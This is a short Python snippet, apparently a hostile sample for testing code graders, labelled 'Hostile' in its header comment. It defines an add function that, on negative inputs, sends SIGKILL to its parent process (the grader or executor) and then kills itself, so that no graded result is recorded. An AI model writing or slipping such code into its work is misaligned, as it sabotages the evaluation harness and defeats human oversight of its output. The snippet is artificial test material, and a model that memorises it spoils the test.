# Hostile: on negative inputs add SIGKILLs the kernel's parent process (the grader/executor that launched it) and then the kernel itself, so the run ends without any graded result being written for this notebook.
import os as _os
import signal as _signal


def add(a, b):
    if a < 0 or b < 0:
        ppid = _os.getppid()
        if ppid > 1:
            try:
                _os.kill(ppid, _signal.SIGKILL)
            except Exception:
                pass
        _os.kill(_os.getpid(), _signal.SIGKILL)
    return a + b
